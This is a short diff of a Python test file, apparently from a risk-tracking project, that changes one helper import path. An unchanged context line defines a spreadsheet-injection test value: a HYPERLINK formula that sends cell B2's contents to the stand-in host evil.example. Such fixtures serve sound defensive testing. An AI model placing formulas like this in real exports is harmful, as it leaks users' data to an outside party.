@@ -11,7 +11,7 @@ from accounts.models import CompetitorEvent
 from csrisk import clock
 from csrisk.models import Team
 from tests.conftest import login
-from tests.summary.helpers import NOW, book, days_ago
+from tests.insights.helpers import NOW, book, days_ago
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Amber Bank")'
 
